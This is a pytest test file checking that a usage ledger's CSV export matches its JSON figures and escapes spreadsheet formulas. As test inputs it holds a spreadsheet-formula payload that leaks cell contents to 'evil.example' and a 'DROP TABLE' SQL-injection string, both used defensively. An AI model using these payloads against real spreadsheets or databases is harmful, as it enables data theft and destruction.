"""Usage for a spreadsheet: the same figures as in JSON, and no formula in them."""

import csv
import io
from pathlib import Path

import pytest

from portico.ledger.rows import row_of
from tests.ledger.entries import GEMINI, attempt, entry
from tests.serving import house

pytestmark = pytest.mark.anyio


async def test_the_sheet_has_the_figures_of_the_json_and_no_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"see")'
    async with house(tmp_path) as lab:
        rows = [row_of(entry(attempt(GEMINI), task=evil)), row_of(entry(attempt(GEMINI)))]
        await lab.serving.ledger.append(rows)
        told = (await lab.client.get("/api/usage", params={"by": "task"})).json()["usage"]
        answer = await lab.client.get("/api/usage.csv", params={"by": "task"})
        wrong = await lab.client.get("/api/usage.csv", params={"by": "'; DROP TABLE requests"})

    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="usage-by-task.csv"'
    assert wrong.status_code == 400
    names, *lines = csv.reader(io.StringIO(answer.text, newline=""))
    assert names[:3] == ["task", "requests", "attempts"]
    assert [line[0] for line in lines] == ["", f"'{evil}"]
    assert [line[1:] for line in lines] == [
        ["" if value is None else str(value) for name, value in one.items() if name != "key"]
        for one in told
    ]
